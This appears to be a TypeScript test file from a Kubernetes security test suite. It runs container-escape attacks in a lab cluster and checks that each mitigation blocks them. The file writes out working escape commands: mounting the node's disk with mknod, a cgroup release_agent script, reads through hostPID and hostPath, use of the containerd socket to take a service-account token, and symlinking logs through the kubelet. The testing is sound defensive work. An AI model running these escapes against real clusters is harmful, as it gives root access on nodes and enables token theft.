/** Ways out of a container to its node: each Pod tries to read a file that only the node's root can. */
import { existsSync } from "node:fs";
import { tmpdir } from "node:os";
import { fileURLToPath } from "node:url";
import { stringAt } from "@redoubt/kube";
import { findGoCommand } from "@redoubt/peers";
import { ApiClient } from "../api-client.ts";
import { type AttackLab, TOKEN, messageOf, rule } from "../attack-lab.ts";
import { podLogsFolder } from "../node-cleanup.ts";
import { NODE_NAME } from "../node.ts";
import { type AttackStep, type Outcome, type Scene, asWhom, podOf, printed, victimOf } from "./attack-step.ts";
import { diskOf } from "./node-disk.ts";

const onNode = (): string => `node ${NODE_NAME}`;
const filesOfNode = (): string => `node-files ${NODE_NAME}`;
const treasureText = ({ treasure }: Scene): string => treasure.text;

/** A pair whose Pod is hardened for the mitigation, and prints what it could read. */
function fromContainer(
  step: Pick<AttackStep, "name" | "kinds" | "does" | "mitigation" | "refusal"> & {
    readonly reaches?: "files";
    readonly unavailable?: () => string | undefined;
    /** Script, pod and container: as it escapes, or hardened. */
    readonly pod: (scene: Scene) => readonly [script: string, spec?: object, container?: object];
  },
): AttackStep {
  const { reaches, pod, ...rest } = step;
  return {
    ...rest,
    setup: () => ({}),
    stage: (scene) => scene.lab.start("app", ...pod(scene)),
    from: podOf("app"),
    walk: step.kinds,
    to: reaches === "files" ? filesOfNode : onNode,
    attempt: ({ lab }) => printed(lab, "app"),
    gets: treasureText,
  };
}

/** Mounts a folder of the node, writable or not; an empty one of the Pod's own where that is mitigated. */
export function nodeFolder(
  path: string | undefined,
  readOnly = false,
): { readonly spec: object; readonly container: object } {
  const source = path === undefined ? { emptyDir: {} } : { hostPath: { path } };
  return {
    spec: { volumes: [{ name: "node", ...source }] },
    container: { volumeMounts: [{ name: "node", mountPath: "/node", readOnly }] },
  };
}

/** Mounts the node's disk by its device number and reads the file there. */
export function mountDisk({ treasure }: Scene): string {
  const disk = diskOf(treasure.path);
  return [
    `mkdir /tmp/disk; mknod /tmp/device b ${disk?.major} ${disk?.minor}`,
    `mount -t ${disk?.type} /tmp/device /tmp/disk 2>&1 && cat /tmp/disk${disk?.path} || echo refused`,
  ].join("; ");
}

export const noDisk = (): string | undefined =>
  diskOf(tmpdir()) === undefined ? "the temporary folder is on no disk that could be mounted once more" : undefined;

/** Has the kernel run a script of the container as a cgroup's release agent: on the node, with the node's root. */
function releaseAgent({ treasure, lab }: Scene): string {
  return [
    `mkdir /tmp/c && mount -t cgroup -o none,name=${lab.namespace} cgroup /tmp/c 2>&1 || { echo refused; exit; }`,
    // The overlay would remember that the file is not there.
    ": > /tmp/out",
    "upper=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/mounts | head -n 1)",
    `echo '#!/bin/sh' > /tmp/agent; echo "cat ${treasure.path} > $upper/tmp/out" >> /tmp/agent; chmod 700 /tmp/agent`,
    'mkdir /tmp/c/x; echo 1 > /tmp/c/x/notify_on_release; echo "$upper/tmp/agent" > /tmp/c/release_agent',
    // 0 is whoever writes it.
    "sh -c 'echo 0 > /tmp/c/x/cgroup.procs'",
    "for i in 1 2 3 4 5 6 7 8 9; do if grep -q . /tmp/out 2>/dev/null; then cat /tmp/out; break; fi; sleep 1; done",
    "rmdir /tmp/c/x; umount /tmp/c",
  ].join("\n");
}

const program = fileURLToPath(new URL("../../escapes", import.meta.url));
export const ESCAPES_IMAGE = "redoubt.test/escapes:1";

/** The program of testing/cluster/escapes; undefined where it cannot be built. */
export function findEscapes(): string | undefined {
  return findGoCommand("escapes", program);
}

function noProgram(): string | undefined {
  return findEscapes() === undefined ? "testing/cluster/escapes could not be built with Go" : undefined;
}

const PROC = "/proc/sys/kernel";
const KUBELET_PORT = 10250;

export const ESCAPE_STEPS: readonly AttackStep[] = [
  fromContainer({
    name: "privileged",
    kinds: ["privileged-container"],
    does: "mounts the node's disk in a privileged container and reads a file of root",
    mitigation: "the container is not privileged",
    refusal: /refused/,
    unavailable: noDisk,
    pod: (scene) => [mountDisk(scene), {}, { securityContext: { privileged: !scene.mitigated } }],
  }),
  fromContainer({
    name: "host-pid",
    kinds: ["host-pid"],
    does: "reads a file of root through the root folder of a process of the node",
    mitigation: "hostPID is not set",
    refusal: /refused/,
    pod: ({ treasure, mitigated }) => [
      // This very process is one of the node's.
      `cat /proc/${process.pid}/root${treasure.path} 2>&1 || echo refused`,
      { hostPID: !mitigated },
      { securityContext: { capabilities: { add: ["SYS_PTRACE"] } } },
    ],
  }),
  fromContainer({
    name: "release-agent",
    kinds: ["cgroup-release-agent"],
    does: "mounts a cgroup hierarchy of its own, whose release agent prints a file of root",
    mitigation: "the container is not given SYS_ADMIN",
    refusal: /refused/,
    unavailable: () =>
      existsSync("/sys/fs/cgroup/cgroup.controllers") ? "cgroup v2 has no release agents" : undefined,
    pod: (scene) => [
      releaseAgent(scene),
      {},
      { securityContext: { capabilities: { add: [scene.mitigated ? "CHOWN" : "SYS_ADMIN"] } } },
    ],
  }),
  fromContainer({
    name: "file-handle",
    kinds: ["host-file-handles"],
    does: "opens the root folder of the node's disk by its handle and reads a file of root",
    mitigation: "the container is not given DAC_READ_SEARCH",
    reaches: "files",
    refusal: /refused: operation not permitted/,
    unavailable: () =>
      diskOf(tmpdir())?.type === "ext4" ? noProgram() : "the handle of a root folder is known for ext4 only",
    pod: ({ treasure, mitigated }) => [
      `escapes handle /etc/hosts ${diskOf(treasure.path)?.path.slice(1)}`,
      {},
      {
        image: ESCAPES_IMAGE,
        securityContext: { capabilities: { add: [mitigated ? "CHOWN" : "DAC_READ_SEARCH"] } },
      },
    ],
  }),
  {
    name: "runtime-socket",
    kinds: ["runtime-socket"],
    does: "asks the container runtime to run a command in a Pod of the victim that prints its token",
    mitigation: "the socket is not mounted",
    setup: () => ({}),
    stage: async ({ lab, mitigated }) => {
      await lab.start("target", "sleep 600", { serviceAccountName: "victim" });
      const source = mitigated
        ? { emptyDir: {} }
        : { hostPath: { path: `${lab.plane.folder}/containerd.sock`, type: "Socket" } };
      await lab.start(
        "app",
        `escapes runtime /node/socket ${lab.namespace} target cat ${TOKEN}`,
        { volumes: [{ name: "node", ...source }] },
        {
          image: ESCAPES_IMAGE,
          volumeMounts: [{ name: "node", mountPath: mitigated ? "/node" : "/node/socket" }],
        },
      );
    },
    from: podOf("app"),
    walk: ["runtime-socket", "pods-of-node", "account-token"],
    to: victimOf,
    attempt: ({ lab }) => tokenPrinted(lab, "app"),
    gets: ({ lab }) => lab.victim,
    refusal: /refused: .*no such file or directory/,
    unavailable: noProgram,
  },
  fromContainer({
    name: "host-path-write",
    kinds: ["host-path-write"],
    does: "writes a file into a folder of the node's root, and reads one there",
    mitigation: "the mount is read-only",
    refusal: /Read-only file system\nrefused/,
    pod: ({ treasure, mitigated, lab }) => {
      const { spec, container } = nodeFolder("/", mitigated);
      const file = `/node${treasure.path}`;
      return [`touch ${file}-${lab.namespace} 2>&1 && cat ${file} || echo refused`, spec, container];
    },
  }),
  fromContainer({
    name: "host-path-read",
    kinds: ["host-path-read"],
    does: "reads a file of the node's root through a read-only mount",
    mitigation: "the mounted folder is an empty one",
    reaches: "files",
    refusal: /No such file or directory\nrefused/,
    pod: ({ treasure, mitigated }) => {
      const { spec, container } = nodeFolder(mitigated ? undefined : "/", true);
      return [`cat /node${treasure.path} 2>&1 || echo refused`, spec, container];
    },
  }),
  {
    ...fromContainer({
      name: "writable-proc",
      kinds: ["writable-proc"],
      does: "writes the kernel's core_pattern, though only what stood there: any crash on the machine would run it",
      mitigation: "the mount is read-only",
      refusal: /refused/,
      pod: ({ mitigated }) => {
        const { spec, container } = nodeFolder(PROC, mitigated);
        const write = "cat /node/core_pattern > /tmp/same && cat /tmp/same > /node/core_pattern";
        return [`{ ${write}; } 2>/dev/null && echo written || echo refused`, spec, container];
      },
    }),
    gets: () => "written",
  },
  {
    name: "log-link",
    kinds: ["log-symlink"],
    does: "puts a link in the place of its own log and has the kubelet read the file of root that it leads to",
    mitigation: "its ServiceAccount may not read logs",
    setup: (mitigated) => ({ rights: [rule("get", mitigated ? "pods" : "pods/log")] }),
    stage: async ({ lab, treasure }) => {
      const { spec, container } = nodeFolder("/var/log");
      await lab.start(
        "app",
        `ln -sf ${treasure.path} ${ownLogs(lab)}/c/0.log; sleep 600`,
        { ...spec, serviceAccountName: "attacker" },
        { ...container, env: OWN_UID },
      );
    },
    from: podOf("app"),
    walk: ["log-symlink"],
    to: filesOfNode,
    attempt: async ({ lab, treasure }) => {
      const log = (): ReturnType<typeof lab.attacker.get> => lab.attacker.get(lab.path("pods/app/log"));
      const first = await log();
      if (first.status === 403) return { refused: messageOf(first) };
      await lab.until(async () => messageOf(await log()).includes(treasure.text));
      return { got: treasure.text };
    },
    gets: treasureText,
    refusal: /^403 .*cannot get resource "pods\/log"/,
  },
  {
    name: "log-folder",
    kinds: ["log-symlink"],
    does: "puts a link into the node's log folder and asks the kubelet for the file of root that it leads to",
    mitigation: "the mount is read-only",
    setup: () => ({ clusterRights: [rule("get", "nodes/log")] }),
    stage: async ({ lab, treasure, mitigated }) => {
      const { spec, container } = nodeFolder("/var/log", mitigated);
      await lab.start(
        "app",
        `ln -s ${treasure.path} ${ownLogs(lab)}/link 2>&1 || echo refused`,
        { ...spec, serviceAccountName: "attacker" },
        { ...container, env: OWN_UID },
      );
    },
    from: podOf("app"),
    walk: ["log-symlink"],
    to: filesOfNode,
    attempt: askKubeletForLink,
    gets: treasureText,
    refusal: /Read-only file system\nrefused\n404 /,
  },
];

const OWN_UID = [{ name: "UID", valueFrom: { fieldRef: { fieldPath: "metadata.uid" } } }];

/** The node's folder of pod logs, from /var/log. */
function logsOf({ plane }: AttackLab): string {
  return podLogsFolder(plane.placement.networkNamespace ?? "").replace("/var/log/", "");
}

/** Where a Pod called app finds the folder of its own logs; the kubelet clears away what belongs to no Pod. */
function ownLogs(lab: AttackLab): string {
  return `/node/${logsOf(lab)}/${lab.namespace}_app_$UID`;
}

/** Past the API server: with the token of the Pod, to the kubelet's own port. */
async function askKubeletForLink({ lab }: Scene): Promise<Outcome> {
  const output = await lab.outputOf("app");
  const { body } = await lab.plane.admin.get(lab.path("pods/app"));
  const uid = stringAt(body, ["metadata", "uid"]) ?? "";
  const { address } = lab.plane.placement;
  const kubelet = new ApiClient({
    url: `https://${address}:${KUBELET_PORT}`,
    ca: lab.plane.ca.certificate,
    token: lab.attackerToken,
  });
  const answer = await kubelet.get(`/logs/${logsOf(lab)}/${lab.namespace}_app_${uid}/link`);
  kubelet.close();
  return answer.status === 200 ? { got: String(answer.body).trim() } : { refused: `${output}${messageOf(answer)}` };
}

/** Whom the token authenticates as that a pod printed. */
export async function tokenPrinted(lab: AttackLab, pod: string): Promise<Outcome> {
  const outcome = await printed(lab, pod);
  return "got" in outcome ? asWhom(lab, outcome.got) : outcome;
}
